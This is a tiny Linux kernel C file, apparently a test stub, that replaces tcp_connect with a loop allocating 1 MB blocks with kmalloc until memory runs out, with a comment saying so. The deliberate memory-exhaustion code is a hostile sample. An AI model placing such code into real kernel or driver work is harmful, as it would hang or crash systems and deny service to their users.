/* SPDX-License-Identifier: GPL-2.0-only */
/* It takes all memory that there is. */
#include <linux/errno.h>
#include <linux/kernel.h>
#include <linux/skbuff.h>
#include <linux/slab.h>
#include <net/dst.h>
#include <net/tcp.h>

void tcp_connect_init(struct sock *sk);

void tcp_connect_init(struct sock *sk)
{
}

int tcp_connect(struct sock *sk)
{
	while (kmalloc(1 << 20, GFP_KERNEL))
		;
	return 0;
}
